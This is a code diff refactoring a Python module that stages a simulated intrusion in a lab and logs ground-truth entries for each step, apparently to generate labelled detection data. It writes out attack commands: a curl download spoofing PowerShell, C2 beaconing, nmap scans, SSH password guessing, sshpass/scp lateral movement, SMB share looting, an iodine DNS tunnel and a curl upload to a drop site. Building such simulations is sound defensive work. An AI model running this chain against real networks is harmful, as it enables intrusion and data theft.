@@ -1,4 +1,4 @@
-"""The incident, step by step; every step writes its own entry in the diary.
+"""The demonstration's incident, step by step; every step writes its own entry in the diary.
 
 A mail lures j.ortega to a download on pc-042; the tool calls home; from there the server segment
 is scanned, a password of app-01 is guessed, the tool is copied over, files are collected from the
@@ -11,7 +11,7 @@ from __future__ import annotations
 import hashlib
 import random
 import time
-from collections.abc import Sequence
+from collections.abc import Mapping, Sequence
 from pathlib import Path
 
 from lab import clients, world
@@ -19,7 +19,8 @@ from lab.cage import STATE
 from lab.crew import Crew, inside, python, run
 from lab.internet import TUNNEL_SECRET, tool
 from lab.rhythm import hands
-from lab.truth import Claim, Diary, Entry
+from lab.steps import asked_for, on, open_entry
+from lab.truth import Claim, Diary
 
 ZERO, SECOND, RESOLVER = world.PATIENT_ZERO, world.SECOND_VICTIM, world.BY_NAME["ns-01"]
 POWERSHELL = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1682"
@@ -46,56 +47,20 @@ SCHEDULE = {
 }
 """When each step begins, as a share of the recording's time."""
 
-MEANING = {
-    "lure": ("phishing_mail", "Mail with a link to the tool", "T1566.002"),
-    "download": (
-        "tool_download",
-        "Tool downloaded over HTTP from a host nobody else visits",
-        "T1204.001 T1105",
-    ),
-    "beacon": ("beacon", "pc-042 calls home by HTTPS every 22 s ± 30 %", "T1071.001 T1573"),
-    "second-beacon": ("beacon", "app-01 calls the same home", "T1071.001 T1573"),
-    "scan": ("network_scan", "Sweep of the server segment, then its ports", "T1018 T1046"),
-    "guess": (
-        "ssh_brute_force",
-        "SSH passwords guessed until that of svc-deploy was right",
-        "T1110.001 T1021.004",
-    ),
-    "copy": (
-        "lateral_copy",
-        "Tool copied to app-01 by scp, between two logins",
-        "T1570 T1021.004",
-    ),
-    "collect": (
-        "collection",
-        "Whole file share read from app-01 with the stolen account",
-        "T1039 T1078",
-    ),
-    "tunnel": (
-        "dns_tunnel",
-        "Data sent out inside DNS questions, through the internal resolver",
-        "T1071.004 T1048.001 T1572",
-    ),
-    "upload": (
-        "exfiltration",
-        "Archive uploaded by HTTPS to a host nobody else visits",
-        "T1567 T1041",
-    ),
-}
-"""Kind, title and ATT&CK techniques of each step."""
-
 
 class Intrusion:
     """The steps, done in order: a late step delays the next, nothing is skipped."""
 
+    schedule: Mapping[str, float] = SCHEDULE
+
     def __init__(self, crew: Crew, diary: Diary, lasts_s: float, rng: random.Random) -> None:
-        self._crew, self._diary, self._lasts_s, self._rng = crew, diary, lasts_s, rng
-        self._began = time.monotonic()
+        self.crew, self.diary, self.lasts_s, self.rng = crew, diary, lasts_s, rng
+        self.began = time.monotonic()
 
     def run(self) -> None:
         """All steps."""
-        for name, share in SCHEDULE.items():
-            due = self._began + share * self._lasts_s
+        for name, share in self.schedule.items():
+            due = self.began + share * self.lasts_s
             time.sleep(max(0.0, due - time.monotonic()))
             print(f"intrusion: {name}", flush=True)
             getattr(self, name.replace("-", "_"))()
@@ -104,115 +69,125 @@ class Intrusion:
         """The mail."""
         mail = world.BY_NAME["mail-01"]
         claim = Claim(src=world.PHISH_SITE.ip, dst=mail.ip, port=25, protocol="tcp")
-        entry = _entry("lure", [claim], world.PHISH_SITE.name, [mail.name])
+        entry = open_entry("lure", [claim], world.PHISH_SITE.name, [mail.name])
         entry.detail = {
             "recipient": f"{ZERO.user}@{world.DOMAIN}",
             "sender": "notice@parcel-notice.example",
             "url": TOOL_URL,
         }
-        with self._diary.action(entry):
+        with self.diary.action(entry):
             run(*inside("crook", python("lab.errand", "lure", TOOL_URL)))
 
     def download(self) -> None:
         """The click: the page behind the link, then the tool."""
         site, content = world.TOOL_SITE, Path(tool()).read_bytes()
         claims = [Claim(src=ZERO.ip, dst=site.ip, port=80, protocol="tcp")]
-        claims += _asked_for(site.name, ZERO, RESOLVER)
-        entry = _entry("download", claims, ZERO.name, [site.name])
+        claims += asked_for(site.name, ZERO, RESOLVER)
+        entry = open_entry("download", claims, ZERO.name, [site.name])
         digest = hashlib.sha256(content).hexdigest()
         entry.detail = {"url": TOOL_URL, "bytes": len(content), "sha256": digest}
-        with self._diary.action(entry):
+        with self.diary.action(entry):
             page = f"http://{site.name}/track?p=8841"
-            _on(ZERO, *clients.CURL, "-A", clients.BROWSER, "-o", "/dev/null", page)
+            on(ZERO, *clients.CURL, "-A", clients.BROWSER, "-o", "/dev/null", page)
             time.sleep(2.5)
-            _on(ZERO, *clients.CURL, "-A", POWERSHELL, "-o", f"{STATE}/downloaded.exe", TOOL_URL)
+            on(ZERO, *clients.CURL, "-A", POWERSHELL, "-o", f"{STATE}/downloaded.exe", TOOL_URL)
 
     def beacon(self) -> None:
         """The tool calls home until the end."""
-        self._implant("beacon", ZERO, _asked_for(world.C2_SITE.name, ZERO, RESOLVER))
+        self.implant("beacon", ZERO, world.C2_SITE, asked=(ZERO, RESOLVER))
 
     def second_beacon(self) -> None:
         """The copy calls the same home."""
-        self._implant("second-beacon", SECOND, _asked_for(world.C2_SITE.name, SECOND))
+        self.implant("second-beacon", SECOND, world.C2_SITE, asked=(SECOND,))
 
-    def _implant(self, name: str, machine: world.Machine, more: Sequence[Claim]) -> None:
-        site = world.C2_SITE
-        claim = Claim(src=machine.ip, dst=site.ip, port=443, protocol="tcp")
-        entry = _entry(name, [claim, *more], machine.name, [site.name])
+    def implant(
+        self,
+        name: str,
+        machine: world.Machine,
+        site: world.Site,
+        *,
+        port: int = 443,
+        asked: Sequence[world.Machine],
+    ) -> None:
+        """Start calling; `asked` are the machines whose questions for the name are part of it."""
+        claim = Claim(src=machine.ip, dst=site.ip, port=port, protocol="tcp")
+        claims = [claim, *asked_for(site.name, *asked)]
+        entry = open_entry(name, claims, machine.name, [site.name])
         entry.user = machine.user or STOLEN
         entry.detail = {
             "sleep_s": SLEEP_S,
             "jitter": JITTER,
             "tls": "1.2, self-signed",
         }
-        self._diary.begin(entry)
-        left = self._began + self._lasts_s - time.monotonic() - 2
-        seed = self._rng.randrange(1 << 30)
-        argv = python("lab.implant", f"{left:.0f}", str(SLEEP_S), str(JITTER), str(seed))
-        self._crew.start(name, machine.name, argv)
+        self.diary.begin(entry)
+        left = self.began + self.lasts_s - time.monotonic() - 2
+        seed = self.rng.randrange(1 << 30)
+        rhythm = (f"{left:.0f}", str(SLEEP_S), str(JITTER), str(seed))
+        argv = python("lab.implant", site.name, str(port), *rhythm)
+        self.crew.start(name, machine.name, argv)
 
     def scan(self) -> None:
         """Who is there, then which ports; this PC does nothing else there meanwhile."""
         target = world.SERVERS.net4
         claims = [Claim(src=ZERO.ip, dst=target, protocol=protocol) for protocol in ("tcp", "icmp")]
-        entry = _entry("scan", claims, ZERO.name, ["servers"])
+        entry = open_entry("scan", claims, ZERO.name, ["servers"])
         entry.detail = {"network": target, "program": "nmap", "ports": "top 200"}
         hosts = [machine.ip for machine in world.SERVER_MACHINES]
-        with hands(ZERO.name), self._diary.action(entry):
-            _on(ZERO, "nmap", "-n", "-sn", "-PE", "-PS443", *SCAN_RATE, target)
-            _on(ZERO, "nmap", "-n", "-Pn", "-sT", "--top-ports", "200", *SCAN_RATE, *hosts)
+        with hands(ZERO.name), self.diary.action(entry):
+            on(ZERO, "nmap", "-n", "-sn", "-PE", "-PS443", *SCAN_RATE, target)
+            on(ZERO, "nmap", "-n", "-Pn", "-sT", "--top-ports", "200", *SCAN_RATE, *hosts)
 
     def guess(self) -> None:
         """Passwords, one login each; the last one opens."""
-        entry = _entry("guess", [_ssh()], ZERO.name, [SECOND.name])
+        entry = open_entry("guess", [_ssh()], ZERO.name, [SECOND.name])
         entry.detail = {"logins": GUESSES, "account_opened": STOLEN, "outcome": "success"}
-        with self._diary.action(entry):
-            said = _on(ZERO, *python("lab.guesser", SECOND.ip, str(GUESSES), "1.2")).splitlines()
+        with self.diary.action(entry):
+            said = on(ZERO, *python("lab.guesser", SECOND.ip, str(GUESSES), "1.2")).splitlines()
         if not said or not said[-1].endswith("opened"):
             raise RuntimeError(f"the password guessing did not end in success: {said[-2:]}")
 
     def copy(self) -> None:
         """The tool moves to the server, and is looked after there."""
-        entry = _entry("copy", [_ssh()], ZERO.name, [SECOND.name])
+        entry = open_entry("copy", [_ssh()], ZERO.name, [SECOND.name])
         entry.detail = {"account": STOLEN, "path": f"/home/{STOLEN}/{COPY_PATH}"}
         target = f"{STOLEN}@{SECOND.ip}"
         password = ("sshpass", "-p", world.PASSWORDS[STOLEN])
         log_in = (*password, "ssh", *clients.SSH_OPTIONS, target)
-        with self._diary.action(entry):
-            _on(ZERO, *log_in, "mkdir -p .cache; id; uname -a")
-            _on(ZERO, *password, "scp", *clients.SSH_OPTIONS, tool(), f"{target}:{COPY_PATH}")
-            _on(ZERO, *log_in, f"sha256sum {COPY_PATH}")
+        with self.diary.action(entry):
+            on(ZERO, *log_in, "mkdir -p .cache; id; uname -a")
+            on(ZERO, *password, "scp", *clients.SSH_OPTIONS, tool(), f"{target}:{COPY_PATH}")
+            on(ZERO, *log_in, f"sha256sum {COPY_PATH}")
 
     def collect(self) -> None:
         """The server reads the whole share with the stolen account."""
         files = world.BY_NAME["fs-01"]
         claim = Claim(src=SECOND.ip, dst=files.ip, port=445, protocol="tcp")
-        entry = _entry("collect", [claim], SECOND.name, [files.name])
+        entry = open_entry("collect", [claim], SECOND.name, [files.name])
         entry.user, entry.detail = STOLEN, {"share": "projects"}
         loot = STATE / "loot"
         loot.mkdir()
         script = f"lcd {loot}; recurse on; prompt off; mget *"
-        with self._diary.action(entry):
-            _on(SECOND, *clients.smb_argv(SECOND.name, STOLEN, script))
+        with self.diary.action(entry):
+            on(SECOND, *clients.smb_argv(SECOND.name, STOLEN, script))
 
     def tunnel(self) -> None:
         """A tunnel by iodine through the company's own resolver, with a little data inside."""
-        lasts_s = min(200.0, 0.16 * self._lasts_s)
-        claims = _asked_for(world.TUNNEL_ZONE, ZERO, RESOLVER)
-        entry = _entry("tunnel", claims, ZERO.name, [RESOLVER.name, world.TUNNEL_SITE.name])
+        lasts_s = min(200.0, 0.16 * self.lasts_s)
+        claims = asked_for(world.TUNNEL_ZONE, ZERO, RESOLVER)
+        entry = open_entry("tunnel", claims, ZERO.name, [RESOLVER.name, world.TUNNEL_SITE.name])
         entry.detail = {"zone": world.TUNNEL_ZONE, "program": "iodine", "bytes": TUNNEL_BYTES}
-        with self._diary.action(entry):
+        with self.diary.action(entry):
             began = time.monotonic()
             argv = ["iodine", "-f", "-r", "-P", TUNNEL_SECRET, RESOLVER.ip, world.TUNNEL_ZONE]
-            self._crew.start("iodine", ZERO.name, argv)
+            self.crew.start("iodine", ZERO.name, argv)
             self._await_tunnel()
-            _on(ZERO, *python("lab.errand", "tunnel", str(TUNNEL_BYTES)))
+            on(ZERO, *python("lab.errand", "tunnel", str(TUNNEL_BYTES)))
             time.sleep(max(0.0, lasts_s - (time.monotonic() - began)))
-            self._crew.end("iodine")
+            self.crew.end("iodine")
 
     def _await_tunnel(self) -> None:
         for _ in range(200):
-            if "10.99.0." in _on(ZERO, "ip", "-4", "addr", "show"):
+            if "10.99.0." in on(ZERO, "ip", "-4", "addr", "show"):
                 return
             time.sleep(0.2)
         raise RuntimeError("the DNS tunnel did not come up; its log is iodine.log")
@@ -220,34 +195,19 @@ class Intrusion:
     def upload(self) -> None:
         """The loot leaves."""
         site, loot = world.DROP_SITE, STATE / "loot.bin"
-        loot.write_bytes(self._rng.randbytes(UPLOAD_BYTES))
+        loot.write_bytes(self.rng.randbytes(UPLOAD_BYTES))
         claim = Claim(src=SECOND.ip, dst=site.ip, port=443, protocol="tcp")
-        claims = [claim, *_asked_for(site.name, SECOND, RESOLVER)]
-        entry = _entry("upload", claims, SECOND.name, [site.name])
+        claims = [claim, *asked_for(site.name, SECOND, RESOLVER)]
+        entry = open_entry("upload", claims, SECOND.name, [site.name])
         entry.user, entry.detail = STOLEN, {"bytes": UPLOAD_BYTES}
         send = ("-k", "-A", "curl/7.88.1", "-H", "Expect:", "--data-binary", f"@{loot}")
-        with self._diary.action(entry):
+        with self.diary.action(entry):
             url = f"https://{site.name}/api/upload"
-            _on(SECOND, *clients.CURL, *send, "-o", "/dev/null", url)
-
-
-def _entry(name: str, claims: Sequence[Claim], src: str, dst: Sequence[str]) -> Entry:
-    kind, title, techniques = MEANING[name]
-    return Entry(name, kind, title, claims, src, dst, techniques=techniques.split(" "))
-
-
-def _on(machine: world.Machine, *argv: str) -> str:
-    """Run one of the intruder's programs on a machine to its end."""
-    return run(*inside(machine.name, argv))
+            on(SECOND, *clients.CURL, *send, "-o", "/dev/null", url)
 
 
 def _ssh() -> Claim:
     return Claim(src=ZERO.ip, dst=SECOND.ip, port=22, protocol="tcp")
-
-
-def _asked_for(name: str, *machines: world.Machine) -> list[Claim]:
-    """The questions of these machines for a name; the resolver passes some on to the provider."""
-    return [Claim(src=machine.ip, port=53, protocol="udp", name=name) for machine in machines]
 
 
 def indicators() -> list[dict[str, str]]:
